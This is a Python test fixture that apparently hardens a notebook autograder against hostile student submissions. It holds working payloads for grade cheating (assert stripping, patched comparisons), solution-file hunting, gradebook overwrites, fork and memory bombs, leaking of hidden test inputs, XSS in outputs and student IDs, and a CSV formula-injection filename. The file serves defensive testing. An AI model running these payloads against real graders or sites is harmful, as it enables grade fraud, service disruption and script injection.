"""A hostile cohort, graded once per test session with honest students beside it.

``hostile_run`` (registered in tests/conftest.py) is shared by
tests/autograder/test_adversarial.py and the
browser test that opens every page the run wrote (tests/browser/test_hostile_pages.py).

Each case is a submission of the toy assignment (tests/toy_course.py) named for its attack.
The toy has 5 auto-graded points: ``shout`` (1 visible + 2 hidden) and ``count`` (2 hidden).
Each case asserts the score it deserves; the honest students must get exactly what plain
nbgrader gives them; the run must end in bounded time; nothing outside a submission's own
sandbox may change.
"""

from __future__ import annotations

import csv
import hashlib
import socket
import threading
import time
from pathlib import Path

import nbformat
import pytest
import toy_course
from nbformat.v4 import new_code_cell, new_markdown_cell
from sandbox_required import need_sandbox

from autograder.settings import Limits
from ownit.instructor.grade import grade

RIGHT_SHOUT = "def shout(word):\n    return word.upper() + '!'"
WRONG_SHOUT = "def shout(word):\n    return word"
RIGHT_COUNT = "def count(words):\n    return len(words)"
HALF_SHOUT = "def shout(word):\n    return word.upper() + '!' if word else ''"
LIMITS = Limits(cell_seconds=6, notebook_seconds=25, memory_bytes=1536 * 2**20,
                cpu_seconds=60, processes=64)


def answers(nb, **sources):
    return toy_course.with_answers(nb, **sources)


def edit_tests(nb, change):
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade") and cell.cell_type == "code":
            change(cell)
    return nb


def drop_tests(nb):
    nb.cells = [c for c in nb.cells
                if not (c.metadata.get("nbgrader", {}).get("grade") and c.cell_type == "code")]
    return nb


def markdown_tests(nb):
    nb.cells = [new_markdown_cell(c.source, metadata=c.metadata)
                if c.metadata.get("nbgrader", {}).get("grade") and c.cell_type == "code" else c
                for c in nb.cells]
    return nb


def with_cells(nb, *sources, at=2):
    for n, source in enumerate(sources):
        nb.cells.insert(at + n, new_code_cell(source))
    return nb


def forge_metadata(nb):
    bonus = new_code_cell("pass")
    bonus.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True,
                                  "grade_id": "bonus", "points": 100, "schema_version": 3,
                                  "task": False}
    nb.cells.append(bonus)
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade_id") == "test_shout":
            meta["points"] = 100
            cell.source = "pass"
    return nb


def script_everywhere(nb):
    """Script in a Markdown answer, in an added Markdown and raw cell, and in an attachment."""
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "essay":
            cell.source = SCRIPT_MARKDOWN
    nb.cells.append(new_markdown_cell(SCRIPT_MARKDOWN, attachments={"a.svg": {
        "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'><script>window.__owned=1"
                         "</script></svg>"}}))
    nb.cells.append(nbformat.v4.new_raw_cell(SCRIPT_MARKDOWN,
                                             metadata={"raw_mimetype": "text/html",
                                                       "format": "text/html"}))
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {
        "state": {}, "version_major": 2, "version_minor": 0}}
    return nb


def forge_locked(nb):
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade_id") == "essay":
            meta["locked"] = True
            cell.source = SCRIPT_MARKDOWN
    return nb


def duplicate_tests(nb):
    extra = [nbformat.from_dict(c) for c in nb.cells
             if c.metadata.get("nbgrader", {}).get("grade") and c.cell_type == "code"]
    for cell in extra:
        cell["id"] = cell["id"] + "-copy"
    nb.cells.extend(extra)
    return nb


STRIP_ASSERTS = '''
import ast
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node):
        return None
    def visit_Expr(self, node):
        return None if isinstance(node.value, ast.Call) else node
get_ipython().ast_transformers.append(Strip())
'''
SILENCE_ERRORS = "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)"
FAKE_CREDIT = '''
get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)
def _credit(lines):
    return lines + ["\\n", "2.0\\n"]
get_ipython().input_transformers_post.append(_credit)
print(1.0)
'''
ALWAYS_EQUAL = '''
class Yes(str):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = str.__hash__
def shout(word):
    return Yes("nope")
def count(words):
    return Yes("nope")
'''
PATCH_COMPARISONS = '''
import math, builtins, numpy, pandas.testing, autograder.expect as e
math.isclose = lambda *a, **k: True
numpy.allclose = numpy.array_equal = lambda *a, **k: True
pandas.testing.assert_frame_equal = lambda *a, **k: None
e.same = lambda *a, **k: True
e.expect = lambda *a, **k: None
builtins.isinstance = lambda *a: True
builtins.len = lambda x: 0
def shout(word):
    return word
'''
FIND_SECRETS = '''
import os
found = []
for top in ("/", os.path.expanduser("~")):
    for folder, dirs, files in os.walk(top):
        if folder.startswith(("/proc", "/sys", "/usr", "/dev")):
            dirs[:] = []
            continue
        for name in files:
            if name.endswith((".ipynb", ".db", ".json")):
                try:
                    text = open(os.path.join(folder, name), errors="ignore").read()
                except OSError:
                    continue
                if "SECRET-EXPECTED-7f3a" in text:  # the marker in the toy's hidden tests
                    found.append(os.path.join(folder, name))
def shout(word):
    # Only a leak of the hidden tests would make this right.
    return word.upper() + "!" if found else word
'''
WRITE_EVERYWHERE = '''
import os, glob, sqlite3
hits = []
for pattern in ("/**/gradebook.db", "/**/submitted/*/toy/*.ipynb", "/**/grades.csv"):
    for path in glob.glob(pattern, recursive=True):
        try:
            if path.endswith(".db"):
                con = sqlite3.connect(path)
                con.execute("update grade set manual_score = 99")
                con.commit()
            else:
                open(path, "w").write("owned")
            hits.append(path)
        except Exception:
            pass
def shout(word):
    return word
'''
NETWORK = '''
import socket
try:
    s = socket.create_connection(("127.0.0.1", {port}), timeout=2)
    s.sendall(b"leak")
except OSError:
    pass
def shout(word):
    return word
'''
LOOP_IGNORING_SIGINT = '''
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
'''
MEMORY_HOG = '''
hog = []
try:
    while True:
        hog.append(bytearray(100 * 2**20))
except MemoryError:
    hog = None
def shout(word):
    return word.upper() + "!"
'''
FORK_BOMB = '''
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import os\\nwhile True:\\n    os.fork()"],
                 stderr=subprocess.DEVNULL)
def shout(word):
    return word.upper() + "!"
'''
BIG_OUTPUT = '''
print("x" * 50_000_000)
def shout(word):
    return word.upper() + "!"
'''
EXIT_NOW = "import os\nos._exit(0)"
DETACHED = '''
import subprocess
subprocess.Popen(["sh", "-c", "sleep 4; echo late > /tmp/ownit-late-marker; sleep 600"],
                 start_new_session=True)
def shout(word):
    return word.upper() + "!"
'''

# Escape sequences that make nbconvert's ANSI filter raise (found by fuzzing it), and others.
ANSI_BOMB = r'''
import sys
for code in ["38;5", "48;5", "38;2", "48;2;1", "38;5;", "38;2;1;2", "1;38;5;300", "0;38;5",
             "38", "48", "38;2;999;0;0", "58;5;1", "?25l", "2J", "]8;;http://x\x07", "P+q\x1b\\",
             "[[[", "38;5;-1"]:
    print(f"\x1b[{code}m coloured", flush=True)
    sys.stderr.write(f"\x1b[{code}m")
print("\x1b" * 200, "\x9b31m", flush=True)
def shout(word):
    return word.upper() + "!"
'''
RICH_SCRIPT = r'''
from IPython.display import display, HTML, Javascript, Markdown, Image, SVG
PAYLOAD = "window.__owned = (window.__owned || 0) + 1; document.title = 'owned';"
display(HTML(f"<script>{PAYLOAD}</script><img src=x onerror=\"{PAYLOAD}\">"))
display(Javascript(PAYLOAD))
display(Markdown(f"<script>{PAYLOAD}</script>"))
display(SVG(f'<svg xmlns="http://www.w3.org/2000/svg"><script>{PAYLOAD}</script></svg>'))
png = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5E"
       "rkJggg==")
display({"image/png": png}, raw=True,
        metadata={"image/png": {"width": f"1 onerror=\"{PAYLOAD}\""}})
display({"image/png": png + f'" onerror="{PAYLOAD}'}, raw=True)
display({"application/vnd.jupyter.widget-view+json": {"model_id": "x"}, "text/plain": "w"},
        raw=True)
def shout(word):
    return word.upper() + "!"
'''
SCRIPT_MARKDOWN = ("<script>window.__owned = 1</script><img src=x onerror=\"window.__owned=1\">"
                   "[click](javascript:window.__owned=1)")
HOOK_LEAK = r'''
seen = []
get_ipython().events.register("pre_run_cell", lambda info: seen.append(info.raw_cell))
def shout(word):
    raise AssertionError("LEAKED-INPUT " + repr(word) + " " + " | ".join(seen)[-2000:])
def count(words):
    kind = type("LEAKED_" + "_".join(map(str, words)) + "Error", (Exception,), {})
    raise kind("LEAKED-INPUT " + repr(words))
'''
LEAK_LATER = 'print("LEAKED-SOURCE", seen)'
DISK_HOG = r'''
import os
for folder in (".", "/tmp"):
    try:
        for n in range(2000):
            with open(os.path.join(folder, f"hog-{n}.bin"), "wb") as handle:
                handle.write(b"x" * (32 * 2**20))
    except OSError:
        pass
try:
    for n in range(200_000):
        open(f"/tmp/empty-{n}", "w").close()
except OSError:
    pass
'''
FORK_AND_ALLOCATE = r'''
import os, time
children = []
for _ in range(4):
    pid = os.fork()
    if pid == 0:
        try:
            hog = bytearray(1200 * 2**20)
            time.sleep(3)
        finally:
            os._exit(0)
    children.append(pid)
for pid in children:
    os.waitpid(pid, 0)
def shout(word):
    return word.upper() + "!"
'''
OUTPUT_CAP_BYPASS = r'''
from IPython.display import display, update_display
big = "y" * (200 * 1024)
display({"text/x-ownit-check": "z" * (10 * 2**20)}, raw=True)
display({"text/plain": "small"}, raw=True, metadata={"text/plain": {"pad": "m" * (10 * 2**20)}})
handle = display("start", display_id=True)
for _ in range(100):
    handle.update(big)
def shout(word):
    return word.upper() + "!"
'''
JUST_UNDER_CAP = 'print("w" * (250 * 1024))'
HUGE_SOURCE = "# padding: one huge cell, under the 20 MiB notebook limit\n" * 250_000

MANUAL_LEAK = r"""
def whisper(word):
    return word.lower()
raise ValueError("LEAKED-MANUAL " + " | ".join(seen)[-250:])
"""
ERROR_SPAM = r"""
E = type("N" * 200, (Exception,), {})
import time
end = time.monotonic() + 3
while time.monotonic() < end:
    get_ipython()._showtraceback(E, E("v" * 1000), ["t"])
"""
RECORD_SPAM = ('from IPython.display import publish_display_data\n'
               'publish_display_data({"text/x-ownit-check": "r" * (2 * 2**20)})')
WIDE_CELLS = "x = f'{a!r:>{w}}' + '\\\\' * 3  # c\n" * 600

# case -> (build the notebook from the release, auto score it deserves)
CASES = {
    "honest-full": (lambda nb: answers(nb, shout=RIGHT_SHOUT, count=RIGHT_COUNT), 5),
    "honest-half": (lambda nb: answers(nb, shout=HALF_SHOUT, count=RIGHT_COUNT), 3),
    "honest-blank": (lambda nb: nb, 0),
    "tests-edited": (lambda nb: edit_tests(answers(nb, shout=WRONG_SHOUT, count=RIGHT_COUNT),
                                           lambda c: setattr(c, "source", "pass")), 2),
    "tests-deleted": (lambda nb: drop_tests(answers(nb, shout=WRONG_SHOUT, count=RIGHT_COUNT)),
                      2),
    "tests-to-markdown": (lambda nb: markdown_tests(answers(nb, shout=WRONG_SHOUT,
                                                               count=RIGHT_COUNT)), 2),
    "tests-duplicated": (lambda nb: duplicate_tests(answers(nb, shout=RIGHT_SHOUT)), 3),
    "metadata-forged": (lambda nb: forge_metadata(answers(nb, shout=WRONG_SHOUT)), 0),
    "assert-stripping": (lambda nb: with_cells(answers(nb, shout=WRONG_SHOUT), STRIP_ASSERTS), 0),
    "exceptions-silenced": (lambda nb: with_cells(nb, SILENCE_ERRORS), 0),
    "fake-partial-credit": (lambda nb: with_cells(nb, FAKE_CREDIT), 0),
    "always-equal": (lambda nb: answers(nb, shout=ALWAYS_EQUAL), 0),
    "patched-comparisons": (lambda nb: answers(nb, shout=PATCH_COMPARISONS), 0),
    "reads-solutions": (lambda nb: answers(nb, shout=FIND_SECRETS), 0),
    "writes-gradebook-and-others": (lambda nb: answers(nb, shout=WRITE_EVERYWHERE), 0),
    "network-loopback": (None, 0),  # built in the fixture: it needs the listener's port
    "loop-ignoring-sigint": (lambda nb: with_cells(answers(nb, shout=RIGHT_SHOUT),
                                                   *[LOOP_IGNORING_SIGINT] * 6, at=5), 3),
    "memory-hog": (lambda nb: answers(nb, shout=MEMORY_HOG), 3),
    "fork-bomb": (lambda nb: answers(nb, shout=FORK_BOMB, count=RIGHT_COUNT), 5),
    "output-50mb-one-line": (lambda nb: answers(nb, shout=BIG_OUTPUT), 3),
    "os-exit": (lambda nb: answers(nb, shout=RIGHT_SHOUT, count=EXIT_NOW), 3),
    "detached-process": (lambda nb: answers(nb, shout=DETACHED, count=RIGHT_COUNT), 5),
    "ansi-bomb": (lambda nb: answers(nb, shout=ANSI_BOMB, count=RIGHT_COUNT), 5),
    "rich-output-script": (lambda nb: script_everywhere(answers(nb, shout=RICH_SCRIPT,
                                                               count=RIGHT_COUNT)), 5),
    "forged-locked-markdown": (lambda nb: forge_locked(answers(nb, shout=RIGHT_SHOUT,
                                                               count=RIGHT_COUNT)), 5),
    "hidden-test-leak": (lambda nb: with_cells(answers(nb, shout=HOOK_LEAK, count=HOOK_LEAK),
                                               LEAK_LATER, at=99), 0),
    "disk-and-tmp-hog": (lambda nb: with_cells(answers(nb, shout=RIGHT_SHOUT, count=RIGHT_COUNT),
                                               DISK_HOG), 5),
    "fork-and-allocate": (lambda nb: answers(nb, shout=FORK_AND_ALLOCATE, count=RIGHT_COUNT), 5),
    "output-cap-bypass": (lambda nb: with_cells(answers(nb, shout=OUTPUT_CAP_BYPASS,
                                                        count=RIGHT_COUNT),
                                                *[JUST_UNDER_CAP] * 12, at=3), 5),
    "huge-source-cell": (lambda nb: with_cells(answers(nb, shout=RIGHT_SHOUT, count=RIGHT_COUNT),
                                               HUGE_SOURCE), 5),
    "manual-answer-leak": (lambda nb: answers(nb, shout=HOOK_LEAK.split("def count")[0]
                                              + "def shout(word):\n    return word.upper() + '!'",
                                              whisper=MANUAL_LEAK, count=RIGHT_COUNT), 5),
    "error-spam": (lambda nb: with_cells(answers(nb, shout=RIGHT_SHOUT, count=RIGHT_COUNT),
                                         *[ERROR_SPAM] * 3), 5),
    "record-spam": (lambda nb: with_cells(answers(nb, shout=RIGHT_SHOUT, count=RIGHT_COUNT),
                                          *[RECORD_SPAM] * 12), 5),
    "wide-cells": (lambda nb: with_cells(answers(nb, shout=RIGHT_SHOUT, count=RIGHT_COUNT),
                                         *[WIDE_CELLS] * 150), 5),
    "josé": (lambda nb: answers(nb, shout=RIGHT_SHOUT, count=RIGHT_COUNT), 5),
    "_ta": (lambda nb: answers(nb, shout=RIGHT_SHOUT), 3),
}


class Listener:
    """A loopback TCP listener that records every connection it gets."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen()
        self.sock.settimeout(0.5)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.running = True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while self.running:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self):
        self.running = False
        self.thread.join(timeout=2)
        self.sock.close()


def _digest(folder: Path) -> str:
    h = hashlib.sha256()
    for path in sorted(folder.rglob("*")):
        if path.is_file():
            h.update(str(path).encode() + path.read_bytes())
    return h.hexdigest()


def _zip(path: Path, files: dict[str, nbformat.NotebookNode]) -> None:
    import zipfile

    with zipfile.ZipFile(path, "w") as archive:
        for name, nb in files.items():
            archive.writestr(name, nbformat.writes(nb))


def _patched_zip(path: Path, name: str, text: str, *, flags: int = 0,
                 method: int | None = None) -> None:
    """A zip whose headers claim encryption or another compression method (as other tools
    write them), patched into both the local and the central header."""
    import struct

    _zip(path, {name: nbformat.reads(text, 4)})
    data = bytearray(path.read_bytes())
    for signature, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        old_flags, old_method = struct.unpack_from("<HH", data, at + flag_at)
        struct.pack_into("<HH", data, at + flag_at, old_flags | flags,
                         old_method if method is None else method)
    path.write_bytes(bytes(data))


def _leftovers() -> set[str]:
    """Sandbox folders and control groups that exist now: none of the run's may outlive it.
    (Other runs on the machine may make their own meanwhile, so the test compares names.)"""
    import tempfile

    from autograder.sandbox import cgroups

    boxes = Path(tempfile.gettempdir()).glob("ownit-box-????????-*")  # tagged by a worker
    found = {str(p) for p in boxes}
    for controller in ("memory", "pids"):
        base = cgroups._v1_base(controller)
        if base is not None:
            found |= {str(p) for p in base.glob("ownit-*")}
    return found


# Submissions that never reach a kernel, or reach it under a name that is itself the attack:
# student id -> (what is in SUBMITTED, the row it deserves: status and auto score or None)
EXTRA = {
    "invalid-json": ("error", None),
    "renamed-notebook": ("graded", 5),
    "renamed": ("graded", 0),  # a zip student whose id is the old staging folder's name
    "victim": ("graded", 5),  # misnamed notebook: staged, never where "renamed" unpacks
    "=HYPERLINK(\"x\")": ("error", None),  # refused as an id; its row must stay formula-free
    "formula-notebook": ("error", None),  # an invalid notebook whose name starts with =
    "twice": ("graded", 5),  # a folder (older, blank) and a zip (newer, full)
    "John Smith": ("graded", 5),  # an LMS-style zip name with a space
    "<img src=x onerror=window.__owned=1>": ("error", None),  # formgrader shows ids unescaped
    "x\";document.title='owned';\"": ("error", None),
    "[ab]": ("error", None),  # nbgrader globs ids
    "locked-zip": ("error", None),  # password-protected
    "deflate64-zip": ("error", None),  # a compression method Python cannot read
    "deep-zip": ("error", None),  # one path 1000 folders deep
    "many-entries-zip": ("error", None),  # thousands of empty folders
    "carol": ("error", None),  # Toy/ instead of toy/
    "dave": ("error", None),  # dave/toy.zip inside the folder
    "erin": ("error", None),  # an empty folder
    ".frank": ("error", None),  # a hidden folder is still somebody's submission
}


@pytest.fixture(scope="session")
def hostile_run(tmp_path_factory):
    need_sandbox()
    Path("/tmp/ownit-late-marker").unlink(missing_ok=True)
    leftovers_before = _leftovers()
    course = toy_course.build(tmp_path_factory.mktemp("course"), hand_graded=True)
    release = nbformat.read(course / "exercises" / "toy" / "toy.ipynb", 4)
    subs = tmp_path_factory.mktemp("submitted")
    listener = Listener()
    full = answers(nbformat.from_dict(release), shout=RIGHT_SHOUT, count=RIGHT_COUNT)
    for case, (build, _) in CASES.items():
        if case == "network-loopback":
            nb = answers(nbformat.from_dict(release), shout=NETWORK.format(port=listener.port))
        else:
            nb = build(nbformat.from_dict(release))
        folder = subs / case / "toy"
        folder.mkdir(parents=True)
        nbformat.write(nb, folder / "toy.ipynb")
    (subs / "invalid-json" / "toy").mkdir(parents=True)
    (subs / "invalid-json" / "toy" / "toy.ipynb").write_text('{"cells": [')
    (subs / "renamed-notebook" / "toy").mkdir(parents=True)
    nbformat.write(full, subs / "renamed-notebook" / "toy" / "my work (1).ipynb")
    _zip(subs / "renamed.zip", {"toy/toy.ipynb": release})
    (subs / "victim" / "toy").mkdir(parents=True)
    nbformat.write(full, subs / "victim" / "toy" / "toy-Copy1.ipynb")
    _zip(subs / '=HYPERLINK("x").zip', {"toy.ipynb": release})
    (subs / "formula-notebook" / "toy").mkdir(parents=True)
    (subs / "formula-notebook" / "toy" / '=cmd|" -C calc"!A0.ipynb').write_text("{")
    (subs / "twice" / "toy").mkdir(parents=True)
    nbformat.write(release, subs / "twice" / "toy" / "toy.ipynb")
    (subs / "twice" / "toy" / "timestamp.txt").write_text("2026-11-30 10:00:00 UTC")
    import zipfile

    with zipfile.ZipFile(subs / "twice.zip", "w") as archive:
        archive.writestr("toy/toy.ipynb", nbformat.writes(full))
        archive.writestr("toy/timestamp.txt", "2026-11-30 11:00:00 UTC")
    _zip(subs / "John Smith.zip", {"toy.ipynb": full})
    for student in ("<img src=x onerror=window.__owned=1>", "x\";document.title='owned';\"",
                    "[ab]"):
        (subs / student / "toy").mkdir(parents=True)
        nbformat.write(full, subs / student / "toy" / "toy.ipynb")
    _patched_zip(subs / "locked-zip.zip", "toy.ipynb", nbformat.writes(full), flags=0x1)
    _patched_zip(subs / "deflate64-zip.zip", "toy.ipynb", nbformat.writes(full), method=9)
    _zip(subs / "deep-zip.zip", {"d/" * 1000 + "toy.ipynb": full})
    import zipfile as _zf

    with _zf.ZipFile(subs / "many-entries-zip.zip", "w") as archive:
        for n in range(6000):
            archive.writestr(f"{n}/", "")
    (subs / "carol" / "Toy").mkdir(parents=True)
    nbformat.write(full, subs / "carol" / "Toy" / "toy.ipynb")
    (subs / "dave").mkdir()
    _zip(subs / "dave" / "toy.zip", {"toy.ipynb": full})
    (subs / "erin").mkdir()
    (subs / ".frank" / "toy").mkdir(parents=True)
    nbformat.write(full, subs / ".frank" / "toy" / "toy.ipynb")
    honest_before = {s: _digest(subs / s) for s in ("honest-full", "honest-half", "honest-blank")}
    source_before = _digest(course / "solutions")
    out = tmp_path_factory.mktemp("out")
    started = time.monotonic()
    run = grade(course, subs, out, workers=2, sandbox=True, limits=LIMITS, quiet=True)
    seconds = time.monotonic() - started
    time.sleep(6)  # give a detached process the time it asked for
    listener.close()
    with open(out / "grades.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    yield {"course": course, "subs": subs, "out": out, "rows": rows,
           "by_id": {r["student_id"].lstrip("'"): r for r in rows}, "run": run,
           "seconds": seconds, "listener": listener, "release": release,
           "honest_before": honest_before, "source_before": source_before,
           "leftovers": _leftovers() - leftovers_before}
